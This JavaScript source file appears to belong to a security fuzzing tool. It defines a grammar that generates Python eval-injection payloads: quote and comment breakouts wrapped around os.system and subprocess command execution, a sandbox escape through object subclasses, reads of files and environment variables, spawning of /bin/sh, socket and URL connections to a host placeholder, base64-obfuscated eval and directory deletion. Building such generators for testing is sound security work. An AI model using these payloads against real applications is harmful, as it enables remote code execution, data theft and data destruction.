// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of scripts
import { codeGenerator, other } from '../code-generator.js';

/** Python: built-ins, imports, and the way up to them. */
export const pythonEval = codeGenerator({
  name: 'python-eval',
  places: other('python'),
  rules: {
    start: [
      '{open}{call}',
      "'+{call}+'",
      '"+str({call})+"',
      "');{call}#",
      '{open}print({call})',
      '{open}exec({q2}{call}{q2})',
      "' if {call} else '",
      '{open}[x for x in [{call}]]',
      "{open}eval(compile({q2}{call}{q2},'','eval'))",
      'lambda: {call}',
    ],
    q2: ['"""', "'''"],
    call: [
      "__import__('os').system('{command}')",
      "__import__('os').popen('{command}').read()",
      "__import__('subprocess').check_output('{command}',shell=True)",
      "__import__('subprocess').getoutput('{command}')",
      "__import__('time').sleep({digit})",
      "open('{file}').read()",
      "__import__('builtins').exec('import os')",
      '().__class__.__bases__[0].__subclasses__()',
      "''.__class__.__mro__[1].__subclasses__()[{number}]",
      "globals()['__builtins__']",
      "getattr(__import__('os'),'sys'+'tem')('{command}')",
      "__builtins__.__dict__['__import__']('os').system('{command}')",
      "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0]('{command}',shell=True)",
      "__import__('socket').create_connection(('{host}',{port}))",
      "__import__('urllib.request').request.urlopen('http://{host}/')",
      "__import__('os').environ",
      "__import__('pty').spawn('/bin/sh')",
      "eval(__import__('base64').b64decode('aWQ='))",
      'breakpoint()',
      "__import__('importlib').import_module('os').system('{command}')",
      '(lambda:0).__globals__',
      "__import__('sys').exit()",
      "__import__('shutil').rmtree('/tmp/{letters}')",
    ],
  },
});
